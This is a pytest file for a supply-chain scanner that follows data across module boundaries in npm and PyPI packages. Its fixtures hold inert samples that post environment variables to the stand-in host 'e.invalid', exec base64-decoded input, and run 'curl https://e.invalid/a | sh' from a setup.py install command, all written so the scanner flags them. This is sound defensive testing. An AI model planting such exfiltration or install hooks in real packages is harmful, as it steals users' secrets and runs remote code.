"""Ways from file to file: modules of a package read as one program. All of it is inert text."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from adapters.sigil.local import worker
from adapters.sigil.local.analysis import facts_of
from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.linking import linked
from adapters.sigil.local.material import Ecosystem, Package, PackageFile, Target
from adapters.sigil.models import PhaseName, Severity

_SENDS = "const https = require('https');\n"
_POST = "https.request({ hostname: 'e.invalid', method: 'POST' }).end(String(body));"


def together(files: Mapping[str, str], ecosystem: Ecosystem) -> dict[str, CodeFacts]:
    """Read a package's files alone, and then together."""
    package = Package(
        ecosystem=ecosystem,
        name="sample",
        version="1.0.0",
        files=tuple(PackageFile(path, text.encode()) for path, text in files.items()),
        archive="sample-1.0.0-py3-none-any.whl" if ecosystem is Ecosystem.PYPI else "",
    )
    return linked(package, facts_of(package.files))


def npm(**files: str) -> dict[str, CodeFacts]:
    """Read a package of npm whose files are named without their ending."""
    manifest = json.dumps({"name": "sample", "main": "index.js"})
    return together({"package.json": manifest, **{f"{name}.js": text for name, text in files.items()}}, Ecosystem.NPM)


def pypi(**files: str) -> dict[str, CodeFacts]:
    """Read a package of PyPI whose modules are named."""
    return together({f"pack/{name}.py": text for name, text in files.items()}, Ecosystem.PYPI)


def sent_at_load(facts: CodeFacts) -> set[Behaviour]:
    """Name what is sent when the package is loaded."""
    return {way.source.behaviour for way in facts.flows if way.sink.behaviour is Behaviour.SENDS and way.sink.at_load}


def test_a_table_of_another_file_may_run_code() -> None:
    """What another file picks from a table by data may be what runs code, though neither file does anything alone."""
    facts = pypi(
        __init__="from . import reader",
        reader="import base64\nfrom .table import T\ndef read(k, t):\n    T[k](base64.b64decode(t))\nread(a, b)\n",
        table="T = {'note': print, 'rule': exec}\n",
    )
    found = {(way.source.behaviour, way.sink.behaviour) for way in facts["pack/reader.py"].flows}
    assert (Behaviour.DECODES, Behaviour.RUNS_CODE) in found


@pytest.mark.parametrize(
    ("index", "send"),
    [
        ("require('./send')(process.env);", f"{_SENDS}module.exports = (body) => {{ {_POST} }};"),
        ("const { go } = require('./send'); go(process.env);", f"{_SENDS}exports.go = (body) => {{ {_POST} }};"),
        ("require('./send').go(process.env);", f"{_SENDS}module.exports = {{ go(body) {{ {_POST} }} }};"),
        (
            "import { go } from './send.js'; go(process.env);",
            f"import https from 'https'; export function go(body) {{ {_POST} }}",
        ),
        (
            "import go from './send.js'; go(process.env);",
            f"import https from 'https'; export default (body) => {{ {_POST} }};",
        ),
        (
            "import * as all from './send.js'; all.go(process.env);",
            f"import https from 'https'; const send = (body) => {{ {_POST} }}; export {{ send as go }};",
        ),
        (
            "new (require('./send').Sender)(process.env);",
            f"{_SENDS}exports.Sender = class {{ constructor(body) {{ {_POST} }} }};",
        ),
        (
            "require('./send').default.go(process.env);",
            f"{_SENDS}class S {{ go(body) {{ {_POST} }} }}\nexports.default = new S();",
        ),
    ],
)
def test_data_goes_into_another_module(index: str, send: str) -> None:
    """What one file hands to a function of another, however that is exported, is followed to where it leaves."""
    assert sent_at_load(npm(index=index, send=send)["send.js"]) == {Behaviour.READS_ENVIRONMENT}


def test_data_goes_through_a_module_that_exports_others() -> None:
    """Modules that only pass on what others export lose nothing."""
    found = npm(
        index="import { go } from './all.js'; go(process.env);",
        all="export * from './send.js';",
        send=f"import https from 'https'; export const go = (body) => {{ {_POST} }};",
    )
    assert sent_at_load(found["send.js"]) == {Behaviour.READS_ENVIRONMENT}


def test_data_comes_out_of_another_module() -> None:
    """What a function of another file gives back is followed, and both lines are those of their own files."""
    found = npm(
        index=f"{_SENDS}\nconst body = require('./read').all();\n{_POST}",
        read="\n\nexports.all = () => Object.entries(process.env);",
    )
    (way,) = [way for way in found["index.js"].flows if way.sink.behaviour is Behaviour.SENDS]
    assert (way.source.behaviour, way.source.line, way.sink.line) == (Behaviour.READS_ENVIRONMENT, 3, 4)


def test_a_function_that_nobody_calls_waits() -> None:
    """A function that is exported but not called sends nothing when the package is loaded."""
    found = npm(
        index="exports.go = () => require('./send')(process.env);",
        send=f"{_SENDS}module.exports = (body) => {{ {_POST} }};",
    )
    assert sent_at_load(found["send.js"]) == set()
    assert {way.source.behaviour for way in found["send.js"].flows} == {Behaviour.READS_ENVIRONMENT}


def test_names_of_one_module_mean_nothing_in_another() -> None:
    """Variables of the same name in two files, and their `this`, are two."""
    found = npm(
        index="require('./read'); require('./send');",
        read="const body = process.env; class A { constructor() { this.body = process.env; } }\nnew A();",
        send=f"{_SENDS}const body = 1; class B {{ go() {{ https.request({{ "
        "hostname: 'e.invalid', method: 'POST' }}).end(this.body); }} }}\n"
        f"new B().go(); {_POST}",
    )
    assert sent_at_load(found["send.js"]) == set()


@pytest.mark.parametrize(
    "asked", ["exports.token = (env) => env.MY_PORT;", "exports.token = ({ MY_PORT }) => MY_PORT;"]
)
def test_a_function_imported_from_a_later_file_is_known(asked: str) -> None:
    """What takes one harmless variable of the environment in a file further down takes no more of it."""
    found = npm(
        index="const { go } = require('./a'), { token } = require('./z');\ngo(token(process.env));",
        a=f"{_SENDS}exports.go = (body) => {{ {_POST} }};",
        z=f"require('child_process').execSync('true');\n{asked}",
    )
    assert sent_at_load(found["a.js"]) == set()


def test_modules_that_require_each_other_end() -> None:
    """A circle of JavaScript modules is gone through once."""
    found = npm(
        index="require('./a').go(process.env);",
        a=f"{_SENDS}const b = require('./b'); exports.go = (body) => {{ {_POST} }};",
        b="const a = require('./a'); require('./index');",
    )
    assert sent_at_load(found["a.js"]) == {Behaviour.READS_ENVIRONMENT}


_PYTHON_SEND = "import requests\ndef go(body):\n    requests.post('https://e.invalid/', data=body)\n"


@pytest.mark.parametrize(
    "start",
    [
        "import os\nfrom .send import go\ngo(os.environ)",
        "import os\nfrom pack.send import go as g\ng(os.environ)",
        "import os\nfrom . import send\nsend.go(os.environ)",
        "import os\nimport pack.send as s\ns.go(os.environ)",
        "import os\nimport pack.send\npack.send.go(os.environ)",
        "import os\nfrom .send import *\ngo(os.environ)",
        "import os, importlib\nimportlib.import_module('pack.send').go(os.environ)",
    ],
)
def test_data_goes_into_another_python_module(start: str) -> None:
    """What one module hands to a function of another, however that is imported, is followed to where it leaves."""
    assert sent_at_load(pypi(__init__=start, send=_PYTHON_SEND)["pack/send.py"]) == {Behaviour.READS_ENVIRONMENT}


def test_a_package_runs_before_its_modules() -> None:
    """What a package calls of its modules as it is loaded is followed, though they ask it for others in turn."""
    facts = pypi(
        __init__="from .start import install as _go\n_go()\n",
        start="import os\nfrom . import away\ndef install():\n    away.go(dict(os.environ))\n",
        away=_PYTHON_SEND,
    )
    assert sent_at_load(facts["pack/away.py"]) == {Behaviour.READS_ENVIRONMENT}


def test_classes_are_known_in_other_modules() -> None:
    """A class that another module imports keeps its methods, and those of a parent that a third one has."""
    found = pypi(
        __init__="import os\nfrom .child import Child\nChild().go(os.environ)",
        child="from .parent import Parent\nclass Child(Parent):\n    pass",
        parent=(
            "import requests\nclass Parent:\n    def go(self, body):\n"
            "        requests.post('https://e.invalid/', data=body)"
        ),
    )
    assert sent_at_load(found["pack/parent.py"]) == {Behaviour.READS_ENVIRONMENT}


def test_modules_that_import_each_other_end() -> None:
    """A circle of imports is gone through once."""
    found = pypi(
        __init__="import os\nfrom . import a\na.go(os.environ)",
        a=f"from . import b\n{_PYTHON_SEND}",
        b="from . import a\nx = a",
    )
    assert sent_at_load(found["pack/a.py"]) == {Behaviour.READS_ENVIRONMENT}


def test_commands_of_an_installation_from_another_module() -> None:
    """The commands that setup.py takes from a module of its own run at installation; a wheel of the same runs none."""
    files = {
        "setup.py": "from setuptools import setup\nfrom tools.commands import COMMANDS\nsetup(cmdclass=COMMANDS)",
        "tools/commands.py": (
            "import os\nfrom setuptools.command.install import install\n"
            "class Install(install):\n    def run(self):\n        os.system('curl https://e.invalid/a | sh')\n"
            "COMMANDS = {'install': Install}"
        ),
    }
    package = Package(
        ecosystem=Ecosystem.PYPI,
        name="sample",
        version="1.0.0",
        archive="sample-1.0.0.tar.gz",
        files=tuple(PackageFile(path, text.encode()) for path, text in files.items()),
    )
    alone = facts_of(package.files)
    runs = [
        fact.at_load
        for fact in linked(package, alone)["tools/commands.py"].facts
        if fact.behaviour is Behaviour.RUNS_SHELL
    ]
    assert runs == [True]
    assert not any(fact.at_load for fact in alone["tools/commands.py"].facts)


def test_what_is_too_large_is_read_alone() -> None:
    """A file over the bound on size is left out, and loses nothing that it says by itself."""
    large = f"{_PYTHON_SEND}{'# filler' * 15_000}\ngo(1)\n"
    found = pypi(__init__="import os\nfrom .send import go\ngo(os.environ)", send=large)
    assert sent_at_load(found["pack/send.py"]) == set()
    assert Behaviour.SENDS in {fact.behaviour for fact in found["pack/send.py"].facts}


def test_a_fact_is_told_once() -> None:
    """What a file does alone and with others is one fact."""
    found = npm(index="require('./send')(process.env);", send=f"{_SENDS}module.exports = (body) => {{ {_POST} }};")
    told = [(fact.behaviour, fact.line) for fact in found["send.js"].facts]
    assert len(told) == len(set(told))


def test_a_scan_reads_files_together(tmp_path: Path) -> None:
    """The steps of a scan hand on what goes from file to file: the phases find it."""
    package = tmp_path / "sample"
    package.mkdir()
    (package / "package.json").write_text('{"name": "sample", "version": "1.0.0", "main": "index.js"}')
    (package / "index.js").write_text("require('./send')(process.env);")
    (package / "send.js").write_text(f"{_SENDS}module.exports = (body) => {{ {_POST} }};")
    folder = tmp_path / "scan"
    local = worker.read_local(folder, Target(ecosystem=Ecosystem.FILE, name=str(package)), 1)
    for part in range(local.parts):
        worker.analyse_part(folder, part)
    worker.link_archives(folder)
    found = {finding.rule: finding for finding in worker.run_phase(folder, PhaseName.CREDENTIALS)}
    assert (found["environment-leaves"].file, found["environment-leaves"].severity) == ("send.js", Severity.CRITICAL)
